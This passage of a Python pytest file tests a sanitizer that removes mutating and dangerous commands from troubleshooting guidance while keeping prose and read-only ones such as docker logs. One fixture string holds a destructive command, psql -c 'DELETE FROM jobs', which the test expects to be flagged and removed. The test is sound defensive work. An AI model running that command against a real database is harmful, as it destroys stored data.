            "Ask the on-call DBA to run `psql -c 'DELETE FROM jobs'`",
        ]
    )
    result = sanitize_guidance(guidance)
    assert result.guidance.alternatives == ["Kubernetes: kubectl logs deploy/api --tail=100"]
    assert [v.safety for v in result.removed] == [MUTATING, DANGEROUS]


@pytest.mark.parametrize(
    "alternative",
    [
        "Ask a teammate with cluster access",
        "Grafana: API > Error rate panel",
        "Check the status page: https://status.example.com",
        "docker logs api --since 10m",
        "Docker: `docker logs api`",
        "",
    ],
)
def test_alternatives_in_prose_or_with_read_only_commands_are_kept(alternative: str) -> None:
    guidance = AcquisitionGuidance(alternatives=[alternative])
    assert sanitize_guidance(guidance).guidance.alternatives == [alternative]
